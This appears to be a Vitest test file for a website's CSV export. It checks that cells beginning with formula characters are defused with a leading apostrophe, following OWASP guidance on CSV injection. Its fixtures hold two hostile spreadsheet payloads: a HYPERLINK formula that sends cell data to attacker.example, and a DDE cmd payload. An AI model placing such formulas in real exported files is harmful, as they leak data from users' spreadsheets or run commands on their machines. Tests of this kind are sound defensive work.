// The one formula-defusing rule every CSV the site writes goes through (OWASP CSV injection prefixes).
import { describe, expect, it } from 'vitest'
import { defuseFormula, isFormulaLike, parseCsv, stringifyCsv } from '../../src/lib/csv/csv'
import { exportCsv } from '../../src/lib/csv/csv-table'

const HOSTILE = ['=HYPERLINK("https://attacker.example/?"&A2,"Click")', "@SUM(1)*cmd|' /C calc'!A0"]

describe('defuseFormula', () => {
  it('prefixes every OWASP formula start with an apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = `${start}1+1`
      expect(isFormulaLike(cell)).toBe(true)
      expect(defuseFormula(cell)).toBe(`'${cell}`)
    }
  })

  it('leaves other cells as they are', () => {
    for (const cell of ['', 'plain', ' =1', "'=1", '1=1', 'a@b.example', '%1', '\n=1'])
      expect(defuseFormula(cell)).toBe(cell)
  })

  it('defuses header cells and body cells when writing, and nothing when off', () => {
    const rows = [HOSTILE, ['+1', '-2'], ['\tx', '\ry']]
    const csv = stringifyCsv(rows, ',', { defuse: true })
    const back = parseCsv(csv, ',').rows
    expect(back[0]).toEqual(HOSTILE.map((h) => `'${h}`))
    expect(back[1]).toEqual(["'+1", "'-2"])
    expect(back[2]).toEqual(["'\tx", "'\ry"])
    for (const row of back) for (const c of row) expect(isFormulaLike(c)).toBe(false)
    expect(parseCsv(stringifyCsv(rows, ',', { defuse: false }), ',').rows).toEqual(rows)
  })

  it("csv-preview's export defuses the header row and every cell by default", () => {
    const out = parseCsv(exportCsv(HOSTILE, [['=1', 'ok']], [0]), ',').rows
    expect(out).toEqual([HOSTILE.map((h) => `'${h}`), ["'=1", 'ok']])
    const live = parseCsv(exportCsv(HOSTILE, [['=1', 'ok']], [0], ',', false), ',').rows
    expect(live).toEqual([HOSTILE, ['=1', 'ok']])
  })
})
